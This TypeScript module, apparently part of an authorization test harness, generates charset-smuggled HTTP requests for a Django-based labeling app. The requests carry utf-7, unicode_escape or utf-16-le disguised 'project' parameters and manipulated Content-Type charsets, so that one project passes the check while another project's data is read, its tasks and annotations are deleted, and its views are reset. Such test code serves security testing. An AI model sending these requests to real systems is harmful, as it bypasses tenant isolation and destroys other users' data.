import type { Sent } from './requests.js'
import type { Attacker, World } from './world.js'

/** Ways of writing a name that only those understand who decode the query with this charset. */
const disguises: readonly (readonly [charset: string, disguise: (name: string) => string])[] = [
  [
    'utf-7',
    (name) => `%2B${Buffer.from(`\0${name[0]}`).toString('base64').slice(0, 3)}-${name.slice(1)}`,
  ],
  [
    'U7',
    (name) => `%2B${Buffer.from(`\0${name[0]}`).toString('base64').slice(0, 3)}-${name.slice(1)}`,
  ],
  ['unicode_escape', (name) => `%5Cu00${name.charCodeAt(0).toString(16)}${name.slice(1)}`],
  ['utf-16-le', (name) => name.replace(/./g, '$&%00')],
]

/** Ways of naming a charset that Django understands. */
const types: readonly ((charset: string) => string)[] = [
  (charset) => `x; charset=${charset}`,
  (charset) => `application/json; charset="${charset}"`,
  (charset) => `text/plain;charset=utf-8;charset=${charset}`,
  (charset) => `x; charset*=utf-8''${charset}`,
  (charset) => `multipart/form-data; boundary=x; charset=${charset}`,
]

interface Attack {
  readonly attacker: Attacker
  readonly sent: Sent
}

/**
 * Requests for one's own project whose query names another's in the charset of the type, which
 * Django decodes it with even if there is no body.
 */
export function disguisedAttacks({ their, mine }: World): readonly Attack[] {
  return disguises.flatMap(([charset, disguise]) => {
    const project = `project=${mine['project']}&${disguise('project')}=${their['project']}`
    const paths = ['tasks', 'dm/project', 'dm/columns', 'ml', 'storages', 'storages/s3', 'webhooks']
    const action = `/api/dm/actions/?id=next_task&${project}&${disguise('id')}`
    return types.flatMap((typeOf) => {
      const type = typeOf(charset)
      const sent: readonly Sent[] = [
        ...paths.map((each) => ({ method: 'GET', path: `/api/${each}/?fields=all&${project}` })),
        { method: 'POST', path: `${action}=delete_tasks` },
        { method: 'POST', path: `${action}=delete_tasks_annotations` },
        { method: 'DELETE', path: `/api/dm/views/reset/?${project}` },
      ]
      const everybody: readonly Attacker[] = ['annotator', 'reviewer', 'manager']
      return everybody.flatMap((attacker) =>
        sent.map((each) => ({ attacker, sent: { ...each, type } })),
      )
    })
  })
}
